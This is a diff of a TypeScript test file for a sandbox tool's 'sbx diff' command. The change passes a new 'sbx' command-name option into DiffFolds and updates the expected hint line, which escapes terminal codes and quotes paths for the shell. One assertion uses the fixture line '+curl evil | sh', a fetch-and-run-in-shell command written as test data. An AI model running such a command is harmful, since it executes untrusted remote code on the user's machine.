@@ -276,14 +276,14 @@ test("sbx diff: what the summary folds gets no diff, one line per group says so;
   // The change list (no columns).
   const { changes } = scanSandbox(f.meta);
   const marker = summaryMarker({});
-  const text = await renderDiffs(changes, plain, undefined, new DiffFolds({ marker, ref }));
+  const text = await renderDiffs(changes, plain, undefined, new DiffFolds({ marker, ref, sbx: 'sbx' }));
   assert.equal(diffNames(text), want, text);
   assert.ok(text.includes('+curl evil | sh'), text);
   assert.ok(text.endsWith(`${tail.join('\n')}\n`), text);
   // The full review's scan: columns marked and their texts kept while the helper walks.
   const scan = await scanSandboxAsync(f.meta, { readNewUpTo: DIFF_MAX_BYTES, columns: true, markColumn: marker.mark, keepTexts: true });
   assert.ok(scan.named && scan.named.length > 10);
-  const cols = await renderDiffs(scan.changes, plain, scan.named, new DiffFolds({ marker, ref }));
+  const cols = await renderDiffs(scan.changes, plain, scan.named, new DiffFolds({ marker, ref, sbx: 'sbx' }));
   assert.is(cols, text);
   // Without folds (--all) every text file has its diff, as before.
   const all = await renderDiffs(changes, plain);
@@ -297,7 +297,7 @@ test('sbx diff PATH or --only inside the fold shows its diffs; a PATH above it d
   const marker = summaryMarker({});
   const { changes } = scanSandbox(f.meta);
   const R = `${f.host}/repo`;
-  const named = async (o: { paths?: string[]; only?: string[] }) => diffNames(await renderDiffs(changes, plain, undefined, new DiffFolds({ marker, ref: 'x', ...o })));
+  const named = async (o: { paths?: string[]; only?: string[] }) => diffNames(await renderDiffs(changes, plain, undefined, new DiffFolds({ marker, ref: 'x', sbx: 'sbx', ...o })));
   assert.ok((await named({ paths: [`${R}/.git`] })).includes('repo/.git/logs/HEAD'));
   assert.not.ok((await named({ paths: [`${R}/.git/logs/`] })).includes('repo/.git/COMMIT_EDITMSG'));
   assert.ok((await named({ paths: [`${R}/.git/logs/`] })).includes('repo/.git/logs/HEAD'));
@@ -313,9 +313,9 @@ test('the hint line escapes names and quotes the path for the shell', async () =
   markStarted(f);
   write(U('logs/HEAD'), reflog('0'.repeat(40), A, 'commit (initial): x'));
   const { changes } = scanSandbox(f.meta);
-  const text = await renderDiffs(changes, plain, undefined, new DiffFolds({ marker: summaryMarker({}), ref: 'a\x1bb' }));
+  const text = await renderDiffs(changes, plain, undefined, new DiffFolds({ marker: summaryMarker({}), ref: 'a\x1bb', sbx: 'sudo SBX_HOME=/s sbx' }));
   assert.not.ok(text.includes('\x1b'), JSON.stringify(text));
-  assert.ok(text.includes(`(to see them: sbx diff 'a\\x1bb' '${f.host}/it'\\''s \\x1b[31m/.git')\n`), text);
+  assert.ok(text.includes(`(to see them: sudo SBX_HOME=/s sbx diff 'a\\x1bb' '${f.host}/it'\\''s \\x1b[31m/.git')\n`), text);
 });
 
 test.run();
